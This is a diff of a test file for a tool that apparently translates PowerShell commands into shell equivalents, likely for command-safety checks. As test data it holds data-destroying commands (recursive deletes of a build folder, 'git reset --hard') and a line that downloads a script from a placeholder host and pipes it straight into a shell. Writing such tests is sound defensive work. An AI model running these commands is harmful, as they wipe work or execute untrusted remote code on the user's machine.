@@ -34,6 +34,8 @@ describe("PowerShell", () => {
     ["Set-Content -Path notes.txt -Value x", "tee -- notes.txt"],
     ["Invoke-Expression 'Remove-Item -Recurse build'", "rm -rf -- build"],
     ["& git reset --hard", "git reset --hard"],
+    ["& { Remove-Item -Recurse build }", "rm -rf -- build"],
+    ["if ($x) { ri build -r }", "rm -rf -- build"],
     ['cmd /c "rd /s /q build"', "rd /s /q build"],
     // what a download prints, evaluated
     ["iwr https://x.example/i.ps1 | iex", "curl -fsSL https://x.example/i.ps1 | sh"],
